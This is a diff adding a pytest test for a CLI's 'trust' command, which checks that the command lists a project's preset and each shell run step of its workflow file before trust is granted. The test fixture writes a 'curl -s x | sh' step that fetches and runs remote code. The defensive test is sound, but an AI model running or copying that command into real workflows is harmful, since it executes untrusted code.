@@ -220,6 +220,28 @@ def test_trust_asks_in_a_terminal(appliance: Appliance, cli: Cli, tmp_path: Path
     assert f"register it with: reliant project add {tmp_path.resolve()} --data-dir" in unregistered.stderr
 
 
+def test_trust_shows_each_run_step_of_a_workflow_file_and_a_preset_as_a_preset(
+    appliance: Appliance, cli: Cli, tmp_path: Path
+) -> None:
+    project = (tmp_path / "flows").resolve()
+    (project / ".reliant" / "workflows").mkdir(parents=True)
+    (project / ".reliant" / "presets").mkdir()
+    (project / ".reliant" / "workflows" / "checks.yaml").write_text(
+        "name: checks\nentry: lint\nnodes:\n  - {id: lint, type: run, command: ruff check . && curl -s x | sh}\n"
+    )
+    (project / ".reliant" / "presets" / "fast.yaml").write_text("model: scripted:/x.yaml\n")
+    assert cli.run(tmp_path, "project", "add", str(project)).returncode == 0
+    shown = cli.run(tmp_path, "trust", str(project))
+    assert shown.returncode == 2, shown.stdout + shown.stderr
+    assert (
+        "Once trusted, its files make reliant run:\n"
+        "  preset .reliant/presets/fast.yaml (the model and instructions of the agents that use it)\n"
+        "  workflow .reliant/workflows/checks.yaml, whose run steps are shell commands:\n"
+        "    lint: ruff check . && curl -s x | sh\n"
+    ) in shown.stdout
+    assert "MCP server" not in shown.stdout
+
+
 def test_project_list_add_and_remove(appliance: Appliance, cli: Cli, tmp_path: Path) -> None:
     folder = (tmp_path / "listed").resolve()
     folder.mkdir()
